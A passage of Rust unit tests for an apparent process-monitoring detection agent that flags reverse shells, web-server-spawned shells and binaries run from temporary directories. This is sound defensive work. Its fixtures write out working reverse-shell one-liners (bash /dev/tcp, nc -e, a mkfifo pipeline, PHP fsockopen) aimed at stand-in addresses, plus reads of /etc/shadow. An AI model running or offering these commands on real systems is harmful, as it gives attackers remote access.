            exec_event(0, cc, rustc, 0, "/usr/bin/cc", &["cc", "-m64", "/tmp/rustcXyZ/symbols.o"]),
            exec_event(0, ld, cc, 0, "/usr/lib/gcc/x86_64-linux-gnu/12/collect2", &["collect2"]),
            exec_event(0, ld, cc, 0, "/usr/bin/x86_64-linux-gnu-ld.bfd", &["/usr/bin/ld"]),
            exit_event(0, ld, cc),
            exit_event(0, cc, rustc),
            exit_event(0, rustc, cargo),
            exec_event(
                0,
                bs,
                cargo,
                0,
                &format!("/work/proj/target/debug/build/proj-{hash}/build-script-build"),
                &["/work/proj/target/debug/build/proj/build-script-build"],
            ),
            exec_event(0, cc, bs, 0, "/usr/bin/cc", &["cc", "-c", "foo.c"]),
            exit_event(0, cc, bs),
            exit_event(0, bs, cargo),
            exec_event(0, test, cargo, 0, &test_path, &[test_path.as_str()]),
            exit_event(0, test, cargo),
            exec_event(0, git, sh, 0, "/usr/bin/git", &["git", "status"]),
            exit_event(0, git, sh),
            exit_event(0, cargo, sh),
            Event::Open(OpenInfo {
                ts_ns: 0,
                proc: Proc { pid: 800, ppid: 1, uid: 0, gid: 0, cgroup_id: 0, comm: comm_of("sshd") },
                flags: 0,
                filename: Text::new(b"/etc/shadow"),
            }),
            Event::Open(OpenInfo {
                ts_ns: 0,
                proc: Proc { pid: cargo, ppid: sh, uid: 0, gid: 0, cgroup_id: 0, comm: comm_of("cargo") },
                flags: 0o2000000,
                filename: Text::new(b"/etc/passwd"),
            }),
            Event::Syscall(SyscallInfo {
                ts_ns: 0,
                proc: Proc { pid: 900, ppid: sh, uid: 1000, gid: 1000, cgroup_id: 0, comm: comm_of("sudo") },
                kind: SyscallKind::SetId,
                nr: 105,
                args: [0, 0, 0, 0],
            }),
            Event::Syscall(SyscallInfo {
                ts_ns: 0,
                proc: Proc { pid: 1, ppid: 0, uid: 0, gid: 0, cgroup_id: 0, comm: comm_of("systemd") },
                kind: SyscallKind::Bpf,
                nr: 321,
                args: [5, 0, 0, 0],
            }),
            exit_event(0, sh, 800),
        ];
        for mut ev in cycle.into_iter().take(CYCLE) {
            ts += step;
            set_ts(&mut ev, ts);
            out.push(ev);
            if out.len() == n {
                break;
            }
        }
        round += 1;
    }
    out
}

fn set_ts(ev: &mut Event, ts: u64) {
    match ev {
        Event::Exec(e) => e.ts_ns = ts,
        Event::Exit { ts_ns, .. } => *ts_ns = ts,
        Event::Sock(s) => s.ts_ns = ts,
        Event::Open(o) => o.ts_ns = ts,
        Event::Syscall(s) => s.ts_ns = ts,
        _ => {}
    }
}

#[cfg(test)]
mod tests {
    use std::sync::mpsc::Receiver;

    use super::*;
    use crate::agents::finding::FindingQueue;

    const TOOLCHAIN: &str = "/root/.rustup/toolchains/stable-x86_64-unknown-linux-gnu/bin";

    struct H {
        cx: Context,
        a: ProcessAgent,
        q: FindingQueue,
        rx: Receiver<Finding>,
    }

    impl H {
        fn new() -> Self {
            Self::with(ProcessConfig::default())
        }

        fn with(cfg: ProcessConfig) -> Self {
            let (q, rx) = FindingQueue::bounded(100_000);
            Self { cx: Context::default(), a: ProcessAgent::new(&cfg), q, rx }
        }

        fn feed(&mut self, ev: Event) -> Vec<Finding> {
            self.cx.observe(&ev);
            let mut out = Emitter::new(&self.q, &self.cx);
            self.a.on_event(&ev, &self.cx, &mut out);
            self.rx.try_iter().collect()
        }

        fn feed_all(&mut self, evs: impl IntoIterator<Item = Event>) -> Vec<Finding> {
            evs.into_iter().flat_map(|e| self.feed(e)).collect()
        }
    }

    fn t(s: f64) -> u64 {
        (s * 1e9) as u64
    }

    fn ip(s: &str) -> IpAddr {
        s.parse().expect("address")
    }

    fn exec(ts: f64, pid: u32, ppid: u32, uid: u32, path: &str, argv: &[&str]) -> Event {
        exec_event(t(ts), pid, ppid, uid, path, argv)
    }

    fn connect(ts: f64, pid: u32, ppid: u32, comm: &str, to: &str, port: u16) -> Event {
        sock_event(t(ts), pid, ppid, comm, Some(ip(to)), port, false)
    }

    fn accept(ts: f64, pid: u32, ppid: u32, comm: &str, from: Option<&str>) -> Event {
        sock_event(t(ts), pid, ppid, comm, from.map(ip), 40_000, true)
    }

    fn exit(ts: f64, pid: u32, ppid: u32) -> Event {
        exit_event(t(ts), pid, ppid)
    }

    fn open(ts: f64, pid: u32, uid: u32, comm: &str, path: &str, flags: i32) -> Event {
        Event::Open(OpenInfo {
            ts_ns: t(ts),
            proc: Proc { pid, ppid: 1, uid, gid: uid, cgroup_id: 0, comm: comm_of(comm) },
            flags,
            filename: Text::new(path.as_bytes()),
        })
    }

    #[allow(clippy::too_many_arguments, reason = "a test constructor naming every field")]
    fn sys(ts: f64, pid: u32, ppid: u32, uid: u32, comm: &str, kind: SyscallKind, nr: u32, args: [u64; 4]) -> Event {
        Event::Syscall(SyscallInfo {
            ts_ns: t(ts),
            proc: Proc { pid, ppid, uid, gid: uid, cgroup_id: 0, comm: comm_of(comm) },
            kind,
            nr,
            args,
        })
    }

    fn kinds(f: &[Finding]) -> Vec<&'static str> {
        f.iter().map(|f| f.kind).collect()
    }

    fn only<'a>(f: &'a [Finding], kind: &str) -> &'a Finding {
        let v: Vec<&Finding> = f.iter().filter(|x| x.kind == kind).collect();
        assert_eq!(v.len(), 1, "one {kind} finding expected in {f:#?}");
        v[0]
    }

    /// init, sshd accepting a login, and the login shell (pid 600).
    fn login(h: &mut H) {
        h.feed_all([
            exec(0.0, 1, 0, 0, "/sbin/init", &["/sbin/init"]),
            exec(0.1, 500, 1, 0, "/usr/sbin/sshd", &["sshd", "-D"]),
            accept(1.0, 500, 1, "sshd", Some("198.51.100.7")),
            exec(1.1, 600, 500, 0, "/usr/bin/bash", &["-bash"]),
        ]);
    }

    /// One `cargo build` + `cargo test` under `dir`, from the shell `sh` at time `t0`.
    fn cargo_tree(t0: f64, sh: u32, base: u32, dir: &str, hash: &str) -> Vec<Event> {
        let (cargo, rustc, cc, ld, bs, test, git, doc) =
            (base, base + 1, base + 2, base + 3, base + 4, base + 5, base + 6, base + 7);
        let rustc_path = format!("{TOOLCHAIN}/rustc");
        let bs_path = format!("{dir}/target/debug/build/workload-{hash}/build-script-build");
        let unit = format!("{dir}/target/debug/deps/workload-{hash}");
        let it = format!("{dir}/target/debug/deps/it-{hash}");
        let mut v = vec![
            exec(t0, cargo, sh, 0, "/root/.cargo/bin/cargo", &["cargo", "build", "--offline"]),
            exec(t0 + 0.01, cargo, sh, 0, &format!("{TOOLCHAIN}/cargo"), &["cargo", "build", "--offline"]),
            connect(t0 + 0.02, cargo, sh, "cargo", "127.0.0.53", 53),
            connect(t0 + 0.03, cargo, sh, "cargo", "151.101.0.137", 443),
            exec(t0 + 0.1, git, cargo, 0, "/usr/bin/git", &["git", "rev-parse", "--show-toplevel"]),
            exit(t0 + 0.11, git, cargo),
            exec(t0 + 0.2, rustc, cargo, 0, "/root/.cargo/bin/rustc", &["rustc", "-vV"]),
            exec(t0 + 0.21, rustc, cargo, 0, &rustc_path, &["rustc", "-vV"]),
            exit(t0 + 0.3, rustc, cargo),
            exec(t0 + 0.4, rustc, cargo, 0, &rustc_path, &["rustc", "--crate-name", "build_script_build", "build.rs"]),
            exec(t0 + 1.0, cc, rustc, 0, "/usr/bin/cc", &["cc", "-m64", "/tmp/rustcAbc123/symbols.o", "-o", &bs_path]),
            exec(
                t0 + 1.01,
                ld,
                cc,
                0,
                "/usr/lib/gcc/x86_64-linux-gnu/12/collect2",
                &["/usr/lib/gcc/x86_64-linux-gnu/12/collect2"],
            ),
            exec(t0 + 1.02, ld + 100, ld, 0, "/usr/bin/ld", &["/usr/bin/ld", "-plugin"]),
            exec(t0 + 1.02, ld + 100, ld, 0, "/usr/bin/x86_64-linux-gnu-ld.bfd", &["/usr/bin/ld", "-plugin"]),
            exit(t0 + 1.2, ld + 100, ld),
            exit(t0 + 1.2, ld, cc),
            exit(t0 + 1.2, cc, rustc),
            exit(t0 + 1.3, rustc, cargo),
            exec(t0 + 1.4, bs, cargo, 0, &bs_path, &[&bs_path]),
            exec(t0 + 1.5, bs + 100, bs, 0, "/usr/bin/cc", &["cc", "--version"]),
            exit(t0 + 1.6, bs + 100, bs),
            exit(t0 + 1.6, bs, cargo),
            exec(t0 + 1.7, rustc, cargo, 0, &rustc_path, &["rustc", "--crate-name", "workload", "src/lib.rs"]),
            exec(t0 + 2.5, cc, rustc, 0, "/usr/bin/cc", &["cc", "-o", &unit]),
            exec(t0 + 2.51, ld, cc, 0, "/usr/lib/gcc/x86_64-linux-gnu/12/collect2", &["collect2"]),
            exec(t0 + 2.52, ld + 100, ld, 0, "/usr/bin/x86_64-linux-gnu-ld.bfd", &["/usr/bin/ld"]),
            exit(t0 + 2.6, ld + 100, ld),
            exit(t0 + 2.6, ld, cc),
            exit(t0 + 2.6, cc, rustc),
            exit(t0 + 2.7, rustc, cargo),
            exec(t0 + 3.0, test, cargo, 0, &unit, &[&unit, "-q"]),
            exit(t0 + 3.1, test, cargo),
            exec(t0 + 3.2, test, cargo, 0, &it, &[&it, "-q"]),
            exit(t0 + 3.3, test, cargo),
            exec(t0 + 3.4, doc, cargo, 0, &format!("{TOOLCHAIN}/rustdoc"), &["rustdoc", "--test", "src/lib.rs"]),
            exec(t0 + 3.6, doc + 100, doc, 0, "/tmp/rustdoctestQ1w2E3/rust_out", &["/tmp/rustdoctestQ1w2E3/rust_out"]),
            exit(t0 + 3.7, doc + 100, doc),
            exit(t0 + 3.8, doc, cargo),
            exit(t0 + 3.9, cargo, sh),
        ];
        // The test harness of the live test: a test binary under target/ spawning cargo.
        v.push(exec(
            t0 + 4.0,
            base + 8,
            sh,
            0,
            "/work/main/target/debug/deps/live_agents-0123456789abcdef",
            &["live_agents"],
        ));
        v.push(exit(t0 + 4.1, base + 8, sh));
        v
    }

    #[test]
    fn building_and_testing_a_crate_stays_at_or_below_half() {
        let mut h = H::new();
        login(&mut h);
        // The sandbox's command runner: pid 1-like API server accepting TCP, a memfd backend,
        // `bash /dev/fd/3` and the command's shell.
        let mut f = h.feed_all([
            exec(1.2, 2000, 1, 0, "/process_api", &["/process_api", "--addr", "0.0.0.0:2024"]),
            accept(1.3, 2000, 1, "process_api", Some("10.0.0.1")),
            Event::Exec(ExecInfo {
                ts_ns: t(1.4),
                proc: Proc { pid: 2001, ppid: 2000, comm: *b"memfd:sealed-91\0", ..Proc::default() },
                filename: Text::new(b"/dev/fd/7"),
                argv: Text::new(b"line_io_tools/binary_backend"),
            }),
            exec(1.5, 2002, 2001, 0, "/usr/bin/bash", &["bash", "/dev/fd/3"]),
            exec(1.6, 2003, 2002, 0, "/usr/bin/bash", &["bash", "/dev/fd/3"]),
        ]);
        let mut t0 = 2.0;
        // Learn for more than an hour of event time, then build again with new hashes.
        for round in 0..80u32 {
            let hash = format!("{:016x}", 0x1a2b_3c4d_5e6f_7a8bu64.wrapping_mul(u64::from(round) + 1));
            let dir = if round % 2 == 0 { "/work/proj" } else { "/tmp/proj" };
            let sh = if round % 3 == 0 { 600 } else { 2003 };
            f.extend(h.feed_all(cargo_tree(t0, sh, 10_000 + round * 20, dir, &hash)));
            t0 += 60.0;
        }
        assert!(h.a.learning_complete());
        let high: Vec<&Finding> = f.iter().filter(|x| x.confidence > 0.5).collect();
        assert!(high.is_empty(), "findings above 0.5 during a build: {high:#?}");
        // What stays: the command runner's script shell under an API server that accepted a
        // connection, at 0.45; builds under /tmp and doctests are not reported.
        assert_eq!(kinds(&f), vec!["service_spawned_shell"], "{f:#?}");
        assert!(f[0].confidence <= 0.45);
        assert!(f[0].reason.contains("via memfd:sealed-91 (pid 2001)"), "{}", f[0].reason);
    }

    #[test]
    fn a_cargo_build_with_a_loaded_baseline_reports_only_low_rare_pairs() {
        let mut learn = H::new();
        login(&mut learn);
        for round in 0..70u32 {
            learn.feed_all(cargo_tree(
                2.0 + f64::from(round) * 60.0,
                600,
                10_000 + round * 20,
                "/work/proj",
                "00aa11bb22cc33dd",
            ));
        }
        let saved = learn.a.save().expect("baseline");
        let mut h = H::new();
        h.a.load(&saved);
        assert!(h.a.learning_complete());
        login(&mut h);
        // Same build, new hashes: nothing new.
        let f = h.feed_all(cargo_tree(5000.0, 600, 30_000, "/work/proj", "ffee00112233aabb"));
        assert!(f.iter().all(|x| x.kind != "rare_parent_child"), "{f:#?}");
        // A new tool in the build: a rare pair, low.
        let f = h.feed_all([exec(5100.0, 31_000, 600, 0, "/usr/bin/valgrind", &["valgrind", "./a"])]);
        let r = only(&f, "rare_parent_child");
        assert!(r.confidence <= 0.4);
        assert_eq!(r.severity, Severity::Low);
        assert!(r.reason.contains("bash (pid 600) started /usr/bin/valgrind"), "{}", r.reason);
    }

    #[test]
    fn a_shell_started_by_a_web_server_worker_is_a_service_spawned_shell() {
        let mut h = H::new();
        login(&mut h);
        let f = h.feed_all([
            exec(2.0, 100, 1, 0, "/usr/sbin/nginx", &["nginx", "-g", "daemon off;"]),
            accept(100.0, 101, 100, "nginx", Some("203.0.113.9")),
            exec(100.5, 300, 101, 33, "/bin/sh", &["sh", "-c", "id; uname -a"]),
        ]);
        let s = only(&f, "service_spawned_shell");
        assert!(s.confidence >= 0.8, "{s:?}");
        assert_eq!(s.severity, Severity::High);
        assert_eq!(s.technique, "T1505.003");
        assert_eq!(s.entities.pid, Some(300));
        assert_eq!(s.entities.ppid, Some(101));
        assert_eq!(s.entities.user.as_deref(), Some("33"));
        assert_eq!(s.entities.exe.as_deref(), Some("/bin/sh"));
        assert!(s.reason.contains("`sh -c id; uname -a` (sh, pid 300) was started by nginx (pid 101)"), "{}", s.reason);
        assert!(s.reason.contains("accepts network connections"), "{}", s.reason);
        // The same web shell again within the hold-off: no second finding.
        let f = h.feed(exec(101.0, 301, 101, 33, "/bin/sh", &["sh", "-c", "whoami"]));
        assert!(f.is_empty(), "{f:#?}");
    }

    #[test]
    fn a_shell_two_levels_under_php_fpm_names_the_chain() {
        let mut h = H::new();
        login(&mut h);
        let f = h.feed_all([
            exec(2.0, 200, 1, 0, "/usr/sbin/php-fpm8.2", &["php-fpm: master process"]),
            exec(120.0, 210, 200, 33, "/usr/bin/perl", &["perl", "/var/www/x.pl"]),
            exec(120.1, 220, 210, 33, "/usr/bin/dash", &["sh", "-c", "cat /etc/hostname"]),
        ]);
        // The perl script itself (CGI-like) is weak; the shell under it is not held off by it.
        assert_eq!(f.len(), 2, "{f:#?}");
        assert!(f[0].confidence < 0.5 && f[0].entities.pid == Some(210), "{:?}", f[0]);
        let s = &f[1];
        assert_eq!(s.entities.pid, Some(220));
        assert!((0.7..0.8).contains(&s.confidence), "{s:?}");
        assert!(
            s.reason.contains("was started by php-fpm8.2 (pid 200) via perl (pid 210), a network service"),
            "{}",
            s.reason
        );
    }

    #[test]
    fn shells_under_sshd_tmux_and_other_shells_are_not_service_spawned() {
        let mut h = H::new();
        login(&mut h);
        let f = h.feed_all([
            exec(2.0, 700, 600, 0, "/usr/bin/tmux", &["tmux"]),
            accept(2.1, 700, 600, "tmux", None),
            exec(2.2, 701, 700, 0, "/usr/bin/bash", &["-bash"]),
            exec(3.0, 702, 701, 0, "/usr/bin/bash", &["bash", "-c", "ls"]),
            exec(3.1, 703, 600, 0, "/usr/bin/python3.11", &["python3", "-c", "print(1)"]),
        ]);
        assert!(f.iter().all(|x| x.kind != "service_spawned_shell"), "{f:#?}");
    }

    #[test]
    fn a_cgi_script_and_a_piped_logger_at_startup_stay_low() {
        let mut h = H::new();
        login(&mut h);
        let f = h.feed_all([
            exec(2.0, 100, 1, 0, "/usr/sbin/apache2", &["/usr/sbin/apache2", "-k", "start"]),
            exec(2.5, 110, 100, 0, "/bin/sh", &["/bin/sh", "-c", "/usr/bin/rotatelogs /var/log/x 86400"]),
        ]);
        let s = only(&f, "service_spawned_shell");
        assert!(s.confidence <= 0.4 && s.reason.contains("after the service started"), "{s:?}");
        let f = h.feed_all([
            accept(200.0, 120, 100, "apache2", Some("203.0.113.9")),
            exec(200.1, 130, 120, 33, "/usr/lib/cgi-bin/status.sh", &["/bin/sh", "/usr/lib/cgi-bin/status.sh"]),
        ]);
        let s = only(&f, "service_spawned_shell");
        assert!(s.confidence < 0.5, "{s:?}");
    }

    #[test]
    fn the_outer_bash_that_connects_then_execs_an_interactive_bash_is_a_reverse_shell() {
        // bash -c 'exec bash -i </dev/tcp/10.201.0.2/4444 >&0 2>&0', started via nsenter.
        let mut h = H::new();
        login(&mut h);
        let mut f = h.feed_all([
            exec(10.0, 4242, 600, 0, "/usr/bin/nsenter", &["nsenter", "--net=/run/netns/a", "--", "bash"]),
            exec(
                10.001,
                4242,
                600,
                0,
                "/usr/bin/bash",
                &["bash", "-c", "exec bash -i </dev/tcp/10.201.0.2/4444 >&0 2>&0"],
            ),
            connect(10.003, 4242, 600, "bash", "10.201.0.2", 4444),
        ]);
        f.extend(h.feed(exec(10.004, 4242, 600, 0, "/usr/bin/bash", &["bash", "-i"])));
        let r = only(&f, "reverse_shell");
        assert!(r.confidence >= 0.8, "{r:?}");
        assert_eq!(r.severity, Severity::High);
        assert_eq!(r.technique, "T1059.004");
        assert_eq!(r.entities.pid, Some(4242));
        assert_eq!(r.entities.dst, Some(ip("10.201.0.2")));
        assert_eq!(r.entities.port, Some(4444));
        assert!(r.reason.contains("pid 4242") && r.reason.contains("10.201.0.2:4444"), "{}", r.reason);
        assert!(r.reason.contains("bash (pid 600) <- sshd (pid 500)"), "{}", r.reason);
    }

    #[test]
    fn netcat_executing_a_shell_in_place_is_a_reverse_shell() {
        // nc -e /bin/sh 192.0.2.66 443: connect, dup2, execve in the same process.
        let mut h = H::new();
        login(&mut h);
        let f = h.feed_all([
            exec(10.0, 4300, 600, 1000, "/usr/bin/nc.traditional", &["nc", "-e", "/bin/sh", "192.0.2.66", "443"]),
            connect(10.1, 4300, 600, "nc", "192.0.2.66", 443),
            exec(10.2, 4300, 600, 1000, "/bin/sh", &["/bin/sh"]),
        ]);
        let r = only(&f, "reverse_shell");
        assert!(r.confidence >= 0.9, "{r:?}");
        assert_eq!((r.entities.dst, r.entities.port), (Some(ip("192.0.2.66")), Some(443)));
        assert!(r.reason.contains("pid 4300 connected to 192.0.2.66:443"), "{}", r.reason);
        assert!(r.reason.contains("replaced itself with the shell `/bin/sh`"), "{}", r.reason);
    }

    #[test]
    fn a_php_reverse_shell_reports_its_wrapper_then_the_stronger_interactive_shell_once() {
        // php -r '$s=fsockopen("192.0.2.66",443);exec("/bin/sh -i <&3 >&3 2>&3");'
        let mut h = H::new();
        login(&mut h);
        let f = h.feed_all([
            exec(10.0, 5500, 600, 33, "/usr/bin/php8.2", &["php", "-r", "$s=fsockopen(...);exec(...);"]),
            connect(10.01, 5500, 600, "php", "192.0.2.66", 443),
            exec(10.02, 5501, 5500, 33, "/bin/sh", &["sh", "-c", "/bin/sh -i <&3 >&3 2>&3"]),
            exec(10.03, 5501, 5500, 33, "/bin/sh", &["/bin/sh", "-i"]),
            exec(12.0, 5502, 5501, 33, "/usr/bin/id", &["id"]),
            exec(12.5, 5503, 5501, 33, "/bin/sh", &["sh", "-c", "uname"]),
        ]);
        let r: Vec<f32> = f.iter().filter(|x| x.kind == "reverse_shell").map(|x| x.confidence).collect();
        assert_eq!(r, vec![0.6, 0.85], "{f:#?}");
        // nc -e: the in-place shell, then a `sh -c` it runs: one finding.
        let f = h.feed_all([
            exec(20.0, 5600, 600, 0, "/usr/bin/nc", &["nc", "-e", "/bin/sh", "192.0.2.66", "443"]),
            connect(20.1, 5600, 600, "nc", "192.0.2.66", 443),
            exec(20.2, 5600, 600, 0, "/bin/sh", &["/bin/sh"]),
            exec(21.0, 5601, 5600, 0, "/bin/sh", &["sh", "-c", "ls"]),
        ]);
        let r: Vec<f32> = f.iter().filter(|x| x.kind == "reverse_shell").map(|x| x.confidence).collect();
        assert_eq!(r, vec![0.9], "{f:#?}");
    }

    #[test]
    fn a_python_pty_spawn_after_a_connect_is_a_reverse_shell() {
        let mut h = H::new();
        login(&mut h);
        let f = h.feed_all([
            exec(10.0, 4400, 600, 1000, "/usr/bin/python3.11", &["python3", "-c", "import socket,pty;..."]),
            connect(10.05, 4400, 600, "python3", "2001:db8::66", 8443),
            exec(10.1, 4401, 4400, 1000, "/bin/bash", &["/bin/bash"]),
        ]);
        let r = only(&f, "reverse_shell");
        assert!(r.confidence >= 0.8, "{r:?}");
        assert_eq!(r.entities.pid, Some(4401));
        assert_eq!(r.entities.ppid, Some(4400));
        assert_eq!(r.entities.dst, Some(ip("2001:db8::66")));
        assert!(r.reason.contains("was started by python3.11 (pid 4400)"), "{}", r.reason);
    }

    #[test]
    fn sh_c_started_by_a_process_that_just_connected_is_reported_at_medium() {
        let mut h = H::new();
        login(&mut h);
        let f = h.feed_all([
            exec(10.0, 4500, 600, 1000, "/usr/local/bin/agent", &["agent"]),
            connect(10.0, 4500, 600, "agent", "10.201.0.2", 5555),
            exec(10.2, 4501, 4500, 1000, "/bin/sh", &["sh", "-c", "sleep 0.2"]),
        ]);
        let r = only(&f, "reverse_shell");
        assert!((0.5..0.7).contains(&r.confidence), "{r:?}");
        assert_eq!(r.entities.dst, Some(ip("10.201.0.2")));
        // npm running an install script after fetching from its registry: low.
        let f = h.feed_all([
            exec(20.0, 4600, 600, 1000, "/usr/bin/npm", &["node", "/usr/bin/npm", "install"]),
            connect(20.1, 4600, 600, "npm", "104.16.0.35", 443),
            exec(21.0, 4601, 4600, 1000, "/bin/sh", &["sh", "-c", "node-gyp rebuild"]),
        ]);
        let r = only(&f, "reverse_shell");
        assert!(r.confidence < 0.5, "{r:?}");
    }

    #[test]
    fn a_mkfifo_pipeline_shell_is_a_reverse_shell() {
        // sh -c 'rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 192.0.2.66 4444 > /tmp/f'
        let mut h = H::new();
        login(&mut h);
        let f = h.feed_all([
            exec(
                10.0,
                4700,
                600,
                1000,
                "/bin/sh",
                &["sh", "-c", "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 192.0.2.66 4444 >/tmp/f"],
            ),
            exec(10.01, 4701, 4700, 1000, "/usr/bin/cat", &["cat", "/tmp/f"]),
            exec(10.01, 4702, 4700, 1000, "/bin/sh", &["sh", "-i"]),
            exec(10.02, 4703, 4700, 1000, "/usr/bin/nc", &["nc", "192.0.2.66", "4444"]),
            connect(10.03, 4703, 4700, "nc", "192.0.2.66", 4444),
        ]);
        let r = only(&f, "reverse_shell");
        assert!(r.confidence >= 0.8, "{r:?}");
        assert_eq!(r.entities.pid, Some(4702));
        assert_eq!(r.entities.dst, Some(ip("192.0.2.66")));
        assert!(r.reason.contains("pid 4703 connected to 192.0.2.66:4444"), "{}", r.reason);
    }

    #[test]
    fn a_shell_whose_children_connect_is_not_a_reverse_shell() {
        let mut h = H::new();
        login(&mut h);
        let f = h.feed_all([
            exec(10.0, 4800, 600, 0, "/bin/sh", &["sh", "-c", "curl -fsS https://example.org/x && git fetch"]),
            exec(10.01, 4801, 4800, 0, "/usr/bin/curl", &["curl", "-fsS", "https://example.org/x"]),
            connect(10.02, 4801, 4800, "curl", "127.0.0.53", 53),
            connect(10.05, 4801, 4800, "curl", "93.184.216.34", 443),
            exit(10.3, 4801, 4800),
            exec(10.31, 4802, 4800, 0, "/usr/bin/git", &["git", "fetch"]),
            exec(10.32, 4803, 4802, 0, "/usr/lib/git-core/git-remote-https", &["git-remote-https", "origin"]),
            connect(10.4, 4803, 4802, "git-remote-http", "140.82.112.3", 443),
            exec(10.5, 4804, 4802, 0, "/usr/bin/sh", &["/bin/sh", "-c", "git credential-cache get"]),
            // `curl | sh`: a sibling connects, but the shell has no -i.
            exec(20.0, 4810, 600, 0, "/usr/bin/curl", &["curl", "-sSf", "https://sh.rustup.rs"]),
            exec(20.0, 4811, 600, 0, "/usr/bin/sh", &["sh", "-s", "--", "-y"]),
            connect(20.1, 4810, 600, "curl", "18.65.1.2", 443),
            // A shell resolving a name (port 53) and talking to loopback.
            exec(30.0, 4820, 600, 0, "/usr/bin/bash", &["bash", "-c", "echo > /dev/tcp/localhost/5432"]),
            connect(30.01, 4820, 600, "bash", "127.0.0.1", 5432),
            connect(30.02, 4820, 600, "bash", "10.0.0.2", 53),
        ]);
        assert!(f.iter().all(|x| x.kind != "reverse_shell"), "{f:#?}");
    }

    #[test]
    fn a_shell_connecting_long_after_its_start_is_not_a_reverse_shell() {
        let mut h = H::new();
        login(&mut h);
        let f = h.feed_all([
            exec(10.0, 4900, 600, 0, "/usr/bin/bash", &["bash"]),
            connect(40.0, 4900, 600, "bash", "192.0.2.1", 80),
            exec(100.0, 4901, 600, 0, "/usr/bin/wget", &["wget", "x"]),
            connect(100.1, 4901, 600, "wget", "192.0.2.1", 80),
            exec(130.0, 4902, 4901, 0, "/bin/sh", &["sh"]),
        ]);
        assert!(f.iter().all(|x| x.kind != "reverse_shell"), "{f:#?}");
    }

    #[test]
    fn sharded_instances_fall_back_to_the_context_for_a_parents_connect() {
        // Two instances sharing a context: the parent's connect went to the other one.
        let cx = Context::default();
        let (q, rx) = FindingQueue::bounded(64);
        let mut a = ProcessAgent::new(&ProcessConfig::default());
        let mut b = ProcessAgent::new(&ProcessConfig::default());
        let evs = [
            exec(10.0, 5000, 1, 1000, "/usr/bin/perl", &["perl", "-e", "..."]),
            connect(10.1, 5000, 1, "perl", "192.0.2.66", 4444),
        ];
        for ev in &evs {
            cx.observe(ev);
            a.on_event(ev, &cx, &mut Emitter::new(&q, &cx));
        }
        let ev = exec(10.2, 5001, 5000, 1000, "/bin/sh", &["/bin/sh", "-i"]);
        cx.observe(&ev);
        b.on_event(&ev, &cx, &mut Emitter::new(&q, &cx));
        let f: Vec<Finding> = rx.try_iter().collect();
        let r = only(&f, "reverse_shell");
        assert!((0.7..0.8).contains(&r.confidence), "{r:?}");
        assert_eq!(r.entities.dst, None);
        assert!(r.reason.contains("connected to a remote address"), "{}", r.reason);
    }

    #[test]
    fn the_runtime_in_sharded_mode_reports_the_live_test_shapes() {
        use crate::agents::{config::AgentsConfig, runtime::Runtime};
        let cfg = AgentsConfig::parse("[agents]\nshards = 2\n", "t").expect("config");
        let mut rt = Runtime::new(cfg, None).expect("runtime");
        for ev in [
            exec(10.0, 4242, 1, 0, "/usr/bin/bash", &["bash", "-c", "exec bash -i </dev/tcp/10.201.0.2/4444 >&0 2>&0"]),
            connect(10.003, 4242, 1, "bash", "10.201.0.2", 4444),
            exec(10.004, 4242, 1, 0, "/usr/bin/bash", &["bash", "-i"]),
            exec(11.0, 4300, 1, 0, "/tmp/agents-tmp-1/payload", &["/tmp/agents-tmp-1/payload"]),
        ] {
            rt.on_event(&ev);
        }
        let mut f = Vec::new();
        rt.finish(|x| f.push(x));
        let r = only(&f, "reverse_shell");
        assert!(r.confidence >= 0.8 && r.reason.contains("10.201.0.2"), "{r:?}");
        let x = only(&f, "exec_from_temp");
        assert!(x.confidence > 0.5 && x.reason.contains("payload"), "{x:?}");
    }

    #[test]
    fn an_exec_from_tmp_is_reported_with_its_path() {
        let mut h = H::new();
        login(&mut h);
        let f = h.feed(exec(10.0, 5100, 600, 0, "/tmp/agents-tmp-77/payload", &["/tmp/agents-tmp-77/payload"]));
        let x = only(&f, "exec_from_temp");
        assert!((0.55..0.65).contains(&x.confidence), "{x:?}");
        assert_eq!(x.severity, Severity::Medium);
        assert_eq!(x.technique, "T1204.002");
        assert_eq!(x.entities.exe.as_deref(), Some("/tmp/agents-tmp-77/payload"));
        assert!(
            x.reason.contains(
                "/tmp/agents-tmp-77/payload (pid 5100) was executed from a temporary directory by bash (pid 600)"
            ),
            "{}",
            x.reason
        );
    }

    #[test]
    fn hidden_shm_and_lookalike_execs_score_higher_and_relative_paths_are_not_judged() {
        let mut h = H::new();
        login(&mut h);
        let f = h.feed(exec(10.0, 5200, 600, 0, "/dev/shm/.x/kworker", &["[kworker/0:1]"]));
        let x = only(&f, "exec_from_temp");
        assert!(x.confidence >= 0.85 - 1e-6, "{x:?}");
        assert_eq!(x.technique, "T1036.005");
        let f = h.feed(exec(11.0, 5201, 600, 0, "./payload", &["./payload"]));
        assert!(f.iter().all(|x| x.kind != "exec_from_temp"), "{f:#?}");
        let f = h.feed(exec(12.0, 5202, 600, 0, "/usr/bin/bash", &["bash", "/var/tmp/s.sh"]));
        let x = only(&f, "exec_from_temp");
        assert!(x.confidence < 0.5 && x.reason.contains("ran the script /var/tmp/s.sh"), "{x:?}");
        let f = h.feed(exec(12.5, 5204, 600, 0, "/usr/bin/python3", &["python3", "/dev/shm/.p.py"]));
        let x = only(&f, "exec_from_temp");
        assert!((0.6..0.7).contains(&x.confidence), "{x:?}");
        // Build directories are not temporary directories.
        let f = h.feed(exec(13.0, 5203, 600, 0, "/work/proj/target/debug/build/x-1/build-script-build", &["x"]));
        assert!(f.iter().all(|x| x.kind != "exec_from_temp"), "{f:#?}");
    }

    #[test]
    fn build_outputs_under_tmp_run_by_a_build_tool_are_not_reported() {
        let mut h = H::new();
        login(&mut h);
        let f = h.feed_all([
            exec(10.0, 5300, 600, 0, "/usr/local/go/bin/go", &["go", "run", "."]),
            exec(11.0, 5301, 5300, 0, "/tmp/go-build123/b001/exe/main", &["/tmp/go-build123/b001/exe/main"]),
            exec(12.0, 5302, 5301, 0, "/tmp/go-build123/b001/exe/helper", &["helper"]),
        ]);
        assert!(f.iter().all(|x| x.kind != "exec_from_temp"), "{f:#?}");
    }

    #[test]
    fn rare_pairs_are_reported_after_learning_and_the_baseline_round_trips() {
        let cfg = ProcessConfig { rare_learn_s: 100.0, ..ProcessConfig::default() };
        let mut h = H::with(cfg.clone());
        login(&mut h);
        let mut f = Vec::new();
        for i in 0..30u32 {
            let ts = 2.0 + f64::from(i) * 5.0;
